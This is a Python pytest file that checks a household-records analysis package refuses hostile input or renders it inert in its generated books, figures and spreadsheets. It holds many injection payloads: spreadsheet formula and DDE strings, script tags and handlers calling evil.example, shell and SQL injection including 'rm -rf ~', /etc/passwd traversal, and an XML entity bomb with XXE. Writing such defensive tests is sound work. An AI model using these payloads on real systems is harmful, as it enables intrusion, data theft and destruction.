"""Hostile input: refused with a named fault, or harmless in every output; never quoted in an error."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from records_sample import signed, sound_rows, write_rows

import clss_analysis as clss
from clss_analysis.privacy import clear
from clss_analysis.publish.build import build
from clss_analysis.publish.figure_data import rows_csv
from clss_analysis.records import InvalidRecordsError, UnknownCaseError, import_file, synthesise, validate, write
from clss_analysis.records.escape import csv_cell
from clss_analysis.runs.parameters import ParameterError, check

ROOT = Path(__file__).parents[1]
SECRET = "Zébulon-0470123456"
EVIL = "evil.example"

HARMLESS = {
    "formula": f'=HYPERLINK("http://{EVIL}";"x")',
    "formula plus": "+cmd|'/c calc'!A1",
    "formula minus": "-2+3+cmd|'/c calc'!A1",
    "formula at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "formula after a space": " =1+1",
    "dde": '=DDE("cmd";"/c calc";"x")',
    "script": f"<script src='http://{EVIL}/x.js'>alert(1)</script>",
    "image with a handler": f"<img src=x onerror=fetch('http://{EVIL}')>",
    "svg with a handler": "<svg onload=alert(1)></svg>",
    "iframe": f"<iframe src='http://{EVIL}'></iframe>",
    "style": f"<style>@import 'http://{EVIL}/x.css'</style>",
    "object": f"<object data='http://{EVIL}/x.swf'></object>",
    "base": f"<base href='http://{EVIL}/'>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=http://{EVIL}'>",
    "comment": "--><script>alert(1)</script><!--",
    "attribute end": "\"><script>alert(1)</script>",
    "attribute end, single": "' onmouseover='alert(1)",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "template": "${7*7} {{7*7}} <%= 7*7 %>",
    "markdown link": "[clic](javascript:alert(1))",
    "markdown image": f"![x](http://{EVIL}/x.png)",
    "autolink": f"<http://{EVIL}/>",
    "raw html": "`<b onclick=alert(1)>`{=html}",
    "raw typst": "`#panic(\"x\")`{=typst}",
    "raw block": "```{=html} <script>alert(1)</script> ```",
    "shortcode": "{{< include /etc/passwd >}}",
    "shortcode of quarto": "{{< pagebreak >}}{{< var x >}}",
    "citation": "@rogers2012 [@rogers2012]",
    "cross reference": "@fig-t2 @tbl-x @sec-y",
    "footnote": "note[^1] ^[note]",
    "mathematics": "$\\input{/etc/passwd}$ $$x$$",
    "div": "::: {.callout-note title='x'} :::",
    "yaml": "--- title: x ---",
    "typst function": "#read(\"/etc/passwd\") #eval(\"1\")",
    "typst import": "#import \"@preview/x:1.0.0\": *",
    "typst label": "<x> @x $x$ *x* _x_ `x`",
    "latex input": "\\input{/etc/passwd}",
    "latex write": "\\immediate\\write18{calc}",
    "latex end": "\\end{document} % x",
    "path": "../../../../etc/passwd",
    "path of windows": "..\\..\\windows\\system32",
    "file address": "file:///etc/passwd",
    "data address": "data:text/html,<script>alert(1)</script>",
    "bidi override": "abc\u202egnp.exe",
    "bidi isolate": "a\u2066b\u2069c",
    "zero width": "mot\u200bde\u200cpasse\ufeff",
    "combining marks": "a" + "\u0301" * 60,
    "line separators": "un\u2028deux\u2029trois",
    "emoji sequence": "👩‍👩‍👧‍👦 🏳️‍🌈",
    "right to left": "مرحبا بالعالم",
    "no break spaces": "\u00a0\u202f x \u00a0",
    "quotes": "\"'`«»“”‘’\"\"",
    "percent and braces": "%s %d {0} {x!r} {{}} %%",
    "sql": "'; DROP TABLE menages; --",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat",
    "python": "__import__('os').system('id')",
    "json": '{"a": 1} ]}',
    "long word": "mot" * 300,
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "heading": "# Titre {#fig-x .x onclick=x}",
    "emphasis": "*a* **b** ~~c~~ ^d^ ~e~ [f]{.smallcaps}",
}  # fmt: skip


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return write_rows(tmp_path / "jeu", sound_rows())


def in_file(name: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def damage(folder: Path) -> None:
        (folder / name).write_bytes(change((folder / name).read_bytes()))

    return damage


def in_cell(table: str, column: str, value: str) -> Callable[[Path], None]:
    def damage(folder: Path) -> None:
        rows = sound_rows()
        rows[table][0][column] = value
        write_rows(folder, rows)

    return damage


def linked(folder: Path) -> None:
    (folder / "ties.csv").unlink()
    (folder / "ties.csv").symlink_to("/etc/passwd")


def linked_folder(folder: Path) -> None:
    (folder / "ties.csv").unlink()
    (folder / "ties.csv").symlink_to(folder.parent)


def a_folder(folder: Path) -> None:
    (folder / "ties.csv").unlink()
    (folder / "ties.csv").mkdir()


def too_large(folder: Path) -> None:
    with (folder / "ties.csv").open("r+b") as stream:
        stream.truncate(65 * 2**20)


REFUSED = {
    "id with a path": in_cell("households", "id", "../A"),
    "id with a slash": in_cell("households", "id", "A/B"),
    "id with a NUL": in_cell("households", "id", "A\x00"),
    "id with a space": in_cell("households", "id", "A B"),
    "id with a quote": in_cell("households", "id", 'A"B'),
    "id with an accent": in_cell("households", "id", "É1"),
    "id of 33 letters": in_cell("households", "id", "A" * 33),
    "id like an option": in_cell("households", "id", "--out"),
    "id of a device": in_cell("households", "id", "."),
    "id with a line end": in_cell("households", "id", "A\nB"),
    "duplicate id": in_cell("households", "id", "B"),
    "id in another case": in_cell("households", "id", "b"),
    "unknown code": in_cell("persons", "role", SECRET),
    "number with a formula": in_cell("persons", "age", "=1+1"),
    "number too long": in_cell("persons", "age", "9" * 400),
    "number in words": in_cell("persons", "age", "NaN"),
    "number without end": in_cell("persons", "age", "Infinity"),
    "month with a day": in_cell("households", "intake", "2023-01-02"),
    "month in other digits": in_cell("households", "intake", "٢٠٢٣-٠١"),
    "boolean in other words": in_cell("persons", "index", "yes"),
    "control character": in_cell("households", "summary", "a\x07b"),
    "escape sequence": in_cell("households", "summary", "a\x1b[31mb"),
    "NUL in a text": in_cell("households", "summary", "a\x00b"),
    "delete character": in_cell("households", "summary", "a\x7fb"),
    "C1 control": in_cell("households", "summary", "a\x85b"),
    "not a character": in_cell("households", "summary", "a\uffffb"),
    "huge cell": in_cell("households", "summary", "x" * 200_000),
    "UTF-16": in_file("households.csv", lambda raw: raw.decode().encode("utf-16")),
    "latin-1": in_file("households.csv", lambda raw: raw.decode().encode("latin-1")),
    "broken UTF-8": in_file("households.csv", lambda raw: raw + b"\xc3\x28"),
    "overlong UTF-8": in_file("households.csv", lambda raw: raw + b"\xc0\xaf"),
    "surrogates": in_file("households.csv", lambda raw: raw + b"\xed\xa0\x80"),
    "open quote": in_file("households.csv", lambda raw: raw + b'A,"'),
    "ragged row": in_file("households.csv", lambda raw: raw + b"Q,1\n"),
    "semicolons": in_file("households.csv", lambda raw: raw.replace(b",", b";")),
    "binary": in_file("households.csv", lambda _: bytes(range(256))),
    "empty file": in_file("households.csv", lambda _: b""),
    "extra column": in_file("households.csv", lambda raw: raw.replace(b"label", SECRET.encode(), 1)),
    "symbolic link": linked,
    "symbolic link to a folder": linked_folder,
    "folder for a file": a_folder,
    "file of 65 MB": too_large,
    "descriptor no JSON": in_file("datapackage.json", lambda raw: raw[:-5]),
    "descriptor deep": in_file("datapackage.json", lambda _: b"[" * 200_000),
    "descriptor list": in_file("datapackage.json", lambda _: b"[]"),
    "descriptor elsewhere": in_file("datapackage.json", lambda raw: raw.replace(b"ties.csv", b"/etc/passwd")),
    "descriptor of the net": in_file("datapackage.json", lambda raw: raw.replace(b"ties.csv", b"http://x.example/t")),
    "descriptor huge number": in_file("datapackage.json", lambda raw: raw.replace(b"false", b"9" * 5000, 1)),
    "threshold of one": in_file("datapackage.json", lambda raw: raw.replace(b"{", b'{"threshold": 1,', 1)),
}


def test_a_huge_cell_is_refused_even_where_a_library_raised_the_limit_of_the_process(folder: Path) -> None:
    REFUSED["huge cell"](folder)
    before = csv.field_size_limit(10_000_000)
    assert validate(folder)
    assert csv.field_size_limit(before) < 200_000


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_a_fault_that_quotes_nothing(name: str, folder: Path) -> None:
    REFUSED[name](folder)
    faults = validate(folder)
    assert faults
    told = "\n".join(map(str, faults))
    assert SECRET not in told
    assert "\x1b" not in told
    assert "root:" not in told
    assert len(told) < 40_000
    with pytest.raises(InvalidRecordsError):
        clss.read(folder)


def test_a_byte_order_mark_is_harmless(folder: Path) -> None:
    in_file("households.csv", lambda raw: b"\xef\xbb\xbf" + raw)(folder)
    assert validate(folder) == []


@pytest.mark.parametrize("case", ["../A", "A/../B", "/etc/passwd", "A\x00", "", "--help", "A B", "É"])
def test_a_household_that_is_no_id_is_not_looked_for(case: str, folder: Path) -> None:
    with pytest.raises(UnknownCaseError) as error:
        clss.read(folder).case(case)
    assert not case or case not in str(error.value) or case == "A B"


@pytest.mark.parametrize(
    "name", ["x=1;__import__('os').system('id')#", "case.real", "class", "case ", "ca\nse", "CASE"]
)
def test_a_parameter_name_is_never_code(name: str) -> None:
    with pytest.raises(ParameterError):
        check(ROOT / "notebooks" / "01_menage.ipynb", {"dataset": "x", "case": "A", "lang": "fr", "out": "", name: "y"})


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph><node id="&j;&xxe;"/></graph></graphml>'
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("entities.graphml", BOMB.encode()),
        ("zip.graphml", b"PK\x03\x04" + b"\x00" * 100),
        ("nul.ged", b"0 HEAD\n1 GEDC\n2 VERS 7.0\n0 @I1@ INDI\n1 NAME a\x00b\n0 TRLR\n"),
        ("long.ged", b"0 HEAD\n1 NOTE " + b"x" * 40_000 + b"\n0 TRLR\n"),
        ("deep.ged", b"".join(f"{n} NOTE x\n".encode() for n in range(200))),
        ("wide.ped", b"x " * 100_000),
        ("path.ged", b"../../etc/passwd"),
    ],
)
def test_hostile_files_of_other_programs_are_refused(name: str, content: bytes, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(InvalidRecordsError) as error:
        import_file(path)
    assert "root:" not in str(error.value)
    assert "aaaa" not in str(error.value)


@pytest.mark.parametrize("name", HARMLESS)
def test_no_cell_of_a_table_for_spreadsheets_is_a_formula(name: str) -> None:
    cell = csv_cell(HARMLESS[name])
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


class Page(HTMLParser):
    """What is alive in a page: elements, handlers and addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "base"):
            self.found.append(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            if (
                address.startswith("#")
                or re.match(r"[a-z0-9-]+\.x?html#", address)
                or re.match(r"text/ch\d+\.xhtml#", address)
            ):
                continue
            if name.startswith("on") or (name in ("href", "src", "action", "data") and (
                address.startswith(("javascript:", "data:text", "file:")) or EVIL in address
            )):  # fmt: skip
                self.found.append(f"{tag} {name}")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.found.append("refresh")
        if tag == "script" and EVIL in str(attrs):
            self.found.append("script")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script" and "alert(1)" in data and "<" not in data:
            self.found.append("script text")


def alive(markup: str) -> list[str]:
    page = Page()
    page.feed(markup)
    return page.found


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A made-up household whose every free text carries a hostile one, and all of them between the tables."""
    records = synthesise(1, 7)
    texts = [text.replace("\u2028", " ").replace("\u2029", " ") for text in HARMLESS.values()]
    place = 0
    tables = {}
    for table, columns in {
        "households": ("label", "summary", "neighbourhood"),
        "persons": ("label", "note"),
        "actors": ("label", "institution", "note"),
        "events": ("label", "detail"),
        "relevance_nodes": ("label",),
        "statements": ("speaker", "text"),
        "criteria": ("evidence",),
        "housing_problems": ("detail",),
        "health_impacts": ("detail",),
        "ties": ("label",),
    }.items():
        frame = records.table(table).copy()
        for column in columns:
            filled = []
            for _ in range(len(frame)):
                short = column in ("label", "speaker", "neighbourhood", "institution")
                text = texts[place % len(texts)]
                filled.append(text[:40] if short else text)
                place += 1
            frame[column] = filled
            frame[column] = frame[column].astype("string")
        tables[table] = frame
    assert place >= len(texts), "every hostile text stands somewhere"
    return write(signed(records.with_tables(**tables)), tmp_path_factory.mktemp("hostile") / "jeu")


@pytest.fixture(scope="module")
def book(hostile_dataset: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("livre") / "livre"
    built = build(ROOT, hostile_dataset, out, formats=("html", "pdf", "epub", "docx"), jobs=2)
    assert built.failures == ()
    return out


def test_the_pages_of_a_hostile_dataset_are_dead(book: Path) -> None:
    pages = list(book.glob("*.html"))
    assert pages
    for page in pages:
        assert alive(page.read_text(encoding="utf-8")) == [], page.name
    assert "alert(1)" in "".join(page.read_text(encoding="utf-8") for page in pages), "it is there, as text"


def test_the_figures_of_a_hostile_dataset_are_dead(book: Path) -> None:
    pictures = list((book / "figures").glob("*.svg"))
    assert pictures
    for picture in pictures:
        for element in fromstring(picture.read_bytes()).iter():
            assert element.tag.rpartition("}")[2] not in ("script", "a", "foreignObject", "iframe", "image"), (
                picture.name
            )
            assert not [name for name in element.attrib if name.startswith("on")], picture.name
            assert not any("javascript:" in value.lower() for value in element.attrib.values()), picture.name
    for table in (book / "figures").glob("*.csv"):
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))], table.name


def test_the_documents_of_a_hostile_dataset_are_dead(book: Path) -> None:
    with zipfile.ZipFile(book / "clss.epub") as epub:
        for name in epub.namelist():
            if name.endswith((".xhtml", ".html", ".svg", ".opf", ".ncx")):
                assert alive(epub.read(name).decode()) == [], name
    with zipfile.ZipFile(book / "clss.docx") as word:
        for name in word.namelist():
            text = word.read(name).decode("utf-8", errors="replace")
            assert not re.search(r"<w:(fldSimple|instrText)[^>]*>[^<]*(DDE|INCLUDE)", text), name
            if name.endswith(".rels"):
                assert not [word for word in (EVIL, "file:", "javascript:") if word in text], name
    pdf = (book / "clss.pdf").read_bytes()
    assert not re.search(rb"/(JavaScript|JS|Launch|EmbeddedFile|OpenAction)\b", pdf)
    assert EVIL.encode() not in b"".join(re.findall(rb"/URI\s*\(([^)]*)\)", pdf))


def test_figure_data_of_hostile_rows_are_inert(hostile_dataset: Path) -> None:
    records = clss.read(hostile_dataset)
    rows = [{"table": "persons", "row": row} for row in records.persons["id"]]
    text = rows_csv(records, rows, clear(records).told).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_there_are_sixty_and_the_search_for_life_can_find_it() -> None:
    assert len(HARMLESS) >= 60
    assert len(REFUSED) >= 45
    assert alive(HARMLESS["image with a handler"]) == ["img onerror"]
    assert alive(HARMLESS["iframe"])
    assert alive("<a href=' javascript:x'>")
    assert alive(HARMLESS["script"])
